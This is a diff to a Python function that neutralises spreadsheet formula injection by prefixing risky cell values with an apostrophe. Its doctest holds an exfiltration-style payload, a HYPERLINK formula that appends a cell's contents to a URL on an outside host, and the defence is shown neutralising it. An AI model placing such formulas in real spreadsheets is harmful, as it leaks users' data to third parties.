@@ -523,11 +523,11 @@ FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 
 
 def safe_cell(value):
-    """A cell value no spreadsheet will run: text starting with a formula character gets a
+    r"""A cell value no spreadsheet will run: text starting with a formula character gets a
     leading apostrophe (numbers and None are left alone).
 
-    >>> safe_cell('=HYPERLINK("http://x?q="&B2,"详情")'), safe_cell("-3"), safe_cell(-3)
-    ('\'=HYPERLINK("http://x?q="&B2,"详情")', "'-3", -3)
+    >>> safe_cell('=HYPERLINK("http://x/?q="&B2)'), safe_cell("-3"), safe_cell(-3), safe_cell("对照")
+    ('\'=HYPERLINK("http://x/?q="&B2)', "'-3", -3, '对照')
     """
     if isinstance(value, str) and value.startswith(FORMULA_START):
         return "'" + value
